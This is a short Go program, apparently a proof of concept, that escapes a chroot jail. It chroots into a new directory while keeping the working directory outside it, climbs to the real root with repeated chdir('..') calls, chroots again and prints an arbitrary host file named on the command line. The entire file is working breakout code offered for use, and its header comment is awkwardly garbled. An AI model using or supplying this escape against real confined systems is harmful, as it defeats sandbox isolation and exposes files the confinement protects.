// Escape leaves a chroot as root can who may call chroot, and prints a file from outside.
package main

import (
	"io"
	"log"
	"os"
	"syscall"
)

func main() {
	if err := os.MkdirAll("/below", 0o755); err != nil {
		log.Fatal(err)
	}
	if err := syscall.Chroot("/below"); err != nil { // the working directory is outside of it from now on
		log.Fatal(err)
	}
	for range 64 {
		os.Chdir("..")
	}
	if err := syscall.Chroot("."); err != nil {
		log.Fatal(err)
	}
	f, err := os.Open(os.Args[1])
	if err == nil {
		_, err = io.Copy(os.Stdout, f)
	}
	if err != nil {
		log.Fatal(err)
	}
}
